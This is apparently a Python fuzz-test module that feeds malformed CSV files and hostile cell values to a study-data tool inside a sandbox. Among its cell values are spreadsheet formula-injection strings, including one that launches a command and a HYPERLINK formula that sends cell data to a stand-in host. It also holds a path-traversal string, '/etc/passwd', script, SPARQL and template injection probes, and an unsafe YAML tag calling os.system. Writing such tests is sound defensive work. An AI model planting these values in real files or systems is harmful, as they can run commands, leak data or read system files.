"""Hostile tables: what can be wrong with the bytes, the shape and the cells of a CSV file."""

import shutil
from collections.abc import Callable
from pathlib import Path
from random import Random

from hostile import Make, register
from hostile.sandbox import Sandbox

MICRO = Path(__file__).parents[1] / "studies" / "micro"
WIDE = """factor,direction,ids,sum,unit,note
invented money,hindering,"1, 2, 3",3,IntervieweeUnit,invented
invented skills,facilitating,"2, 4",2,IntervieweeUnit,invented
"""
EXPORT = "tag,document,content\ninvented money,interview 1,words\ninvented skills,interview 2,more words\n"
TABLES = ("study", "factors", "findings", "participants", "citations", "table-rows", "positions")

Change = Callable[[Random, bytes], bytes]


def _in_cell(text: str) -> Change:
    """Put a text in quotation marks into some cell of the second line."""

    def change(rng: Random, data: bytes) -> bytes:
        lines = data.split(b"\n")
        cells = lines[1].split(b",")
        cells[rng.randrange(len(cells))] = b'"' + text.encode("utf-8", "surrogatepass").replace(b'"', b'""') + b'"'
        lines[1] = b",".join(cells)
        return b"\n".join(lines)

    return change


def _at_random(inserted: bytes) -> Change:
    def change(rng: Random, data: bytes) -> bytes:
        place = rng.randrange(len(data))
        return data[:place] + inserted + data[place:]

    return change


def _flipped(rng: Random, data: bytes) -> bytes:
    """Some random bytes instead of those that stand there."""
    changed = bytearray(data)
    for _ in range(rng.randint(1, 12)):
        changed[rng.randrange(len(changed))] = rng.randrange(256)
    return bytes(changed)


def _line_ends(rng: Random, data: bytes) -> bytes:
    return b"".join(line + rng.choice([b"\n", b"\r\n", b"\r", b"\n\r"]) for line in data.splitlines())


def _header(change: Callable[[list[bytes]], list[bytes]]) -> Change:
    def changed(rng: Random, data: bytes) -> bytes:
        head, _, rest = data.partition(b"\n")
        return b",".join(change(head.split(b","))) + b"\n" + rest

    return changed


# Invented people and places: a name of a file that leads elsewhere, a formula, a name that shows otherwise.
CELLS = {
    "formula": '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    "command": "=cmd|'/C calc'!A0",
    "at-sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "right-to-left": "\u202egnorw\u202c si siht\u2066\u2069",
    "control": "a\x01\x02\x08\x1b[31mred\x1b[0m\x7f\x9b",
    "escape-title": "\x1b]0;owned\x07",
    "line-separators": "a\u2028b\u2029c\x85d",
    "zero-width": "a\u200b\u200c\u200d\ufeffb",
    "surrogate": "\ud800",
    "not-a-character": "\ufffe\uffff\U0001ffff",
    "combining": "e" + "\u0301" * 3000,
    "traversal": "../../../../outside/secret.txt",
    "absolute": "/etc/passwd",
    "null-escape": "%00\\0",
    "markup": "<script>alert(1)</script><!--",
    "turtle": '" . <urn:x> <urn:y> """',
    "sparql": "} INSERT DATA { <urn:x> <urn:y> <urn:z> } #",
    "iri": "http://x.invalid/> <urn:b> <urn:c> . <urn:d",
    "huge-number": "9" * 5000,
    "huge-exponent": "1e999999999",
    "nan": "NaN",
    "negative": "-1",
    "arabic-digits": "\u0661\u0662",
    "long": "x" * 1_000_000,
    "long-list": "; ".join(f"t{i}" for i in range(20_000)),
    "many-quotes": '"' * 10_001,
    "dots": "..",
    "template": "{{7*7}}${7*7}%s%n{0.__class__}",
    "yaml": "!!python/object/apply:os.system ['true']",
    "markdown": "[a](javascript:alert(1)) ![b](http://x.invalid/b.png)",
}
CHANGES: dict[str, tuple[Change, int]] = {
    "flipped-bytes": (_flipped, 12),
    "utf-16": (lambda rng, data: data.decode().encode("utf-16"), 1),
    "utf-32": (lambda rng, data: data.decode().encode("utf-32"), 1),
    "utf-7": (lambda rng, data: b"+AF8-" + data, 1),
    "latin-1": (lambda rng, data: data.replace(b"a", b"\xe9"), 1),
    "cp1252-undefined": (lambda rng, data: data.replace(b"a", b"\x81"), 1),
    "bom": (lambda rng, data: b"\xef\xbb\xbf" + data, 1),
    "bom-twice": (lambda rng, data: b"\xef\xbb\xbf" * 2 + data, 1),
    "bom-inside": (_at_random(b"\xef\xbb\xbf"), 3),
    "nul": (_at_random(b"\0"), 3),
    "overlong-utf-8": (_at_random(b"\xc0\xaf"), 1),
    "unclosed-quote": (_at_random(b'"'), 4),
    "quote-at-end": (lambda rng, data: data + b'"', 1),
    "line-ends": (_line_ends, 4),
    "only-carriage-returns": (lambda rng, data: data.replace(b"\n", b"\r"), 1),
    "no-line-end": (lambda rng, data: data.rstrip(b"\n"), 1),
    "cut-off": (lambda rng, data: data[: rng.randrange(len(data))], 4),
    "empty": (lambda rng, data: b"", 1),
    "white-space": (lambda rng, data: b" \t\n\n \r\n", 1),
    "only-commas": (lambda rng, data: b"," * 5000, 1),
    "many-columns": (lambda rng, data: b",".join(b"c%d" % i for i in range(100_000)) + b"\n1\n", 1),
    "many-cells": (lambda rng, data: data + b"," * 100_000 + b"\n", 1),
    "many-rows": (lambda rng, data: data + data.split(b"\n")[1] * 0 + b"x\n" * 5000, 1),
    "same-row-often": (lambda rng, data: data + (data.split(b"\n")[1] + b"\n") * 300, 1),
    "duplicate-column": (_header(lambda names: [names[0], *names]), 1),
    "missing-column": (_header(lambda names: names[1:]), 1),
    "unknown-column": (_header(lambda names: [*names, b"unheard-of"]), 1),
    "columns-in-disorder": (_header(lambda names: names[::-1]), 1),
    "capital-header": (_header(lambda names: [name.upper() for name in names]), 1),
    "empty-heading": (_header(lambda names: [b"", *names[1:]]), 1),
    "long-heading": (_header(lambda names: [b"h" * 200_000, *names[1:]]), 1),
    "heading-of-controls": (_header(lambda names: [b"\x1b[2J\x07", *names[1:]]), 1),
    "semicolons": (lambda rng, data: data.replace(b",", b";"), 1),
    "html": (lambda rng, data: b"<!DOCTYPE html><html><body><table><tr><td>" + data, 1),
    "zip-bytes": (lambda rng, data: b"PK\x03\x04" + data, 1),
    **{f"cell-{name}": (_in_cell(text), 2) for name, text in CELLS.items()},
}


def _study(change: Change, table: str | None) -> Make:
    def make(rng: Random, sandbox: Sandbox) -> object:
        from nasss.quick_tables import read_quickly

        folder = sandbox.folder / "micro"
        shutil.copytree(MICRO, folder)
        path = folder / f"{table or rng.choice(TABLES)}.csv"
        path.write_bytes(change(rng, path.read_bytes()))
        sandbox.names.append(folder.name)
        return {name: len(rows) for name, rows in read_quickly(folder).items()}

    return make


def _added(change: Change, content: str, *options: str) -> Make:
    def make(rng: Random, sandbox: Sandbox) -> object:
        path = sandbox.write("table.csv", change(rng, content.encode()))
        said = ("--study", "invented", "--title", "Invented", "--method", "interviews", "--technology", "a toy")
        return sandbox.command("study", "add", str(path), *said, *options, "--into", "own", "--write")

    return make


def _read(change: Change) -> Make:
    def make(rng: Random, sandbox: Sandbox) -> object:
        from nasss.profiles import load_profile, read_project

        path = sandbox.write("export.csv", change(rng, EXPORT.encode()))
        project = read_project(path, load_profile("taguette"))
        return str(project)

    return make


for _name, (_change, _seeds) in CHANGES.items():
    register("tables", f"study-{_name}", _study(_change, "findings" if _seeds == 1 else None), _seeds)
    register("tables", f"export-{_name}", _read(_change))
# The whole way of adding, with what gets furthest.
for _name in ("flipped-bytes", "cut-off", "many-columns", *(f"cell-{name}" for name in list(CELLS)[::3])):
    register("tables", f"wide-{_name}", _added(CHANGES[_name][0], WIDE))
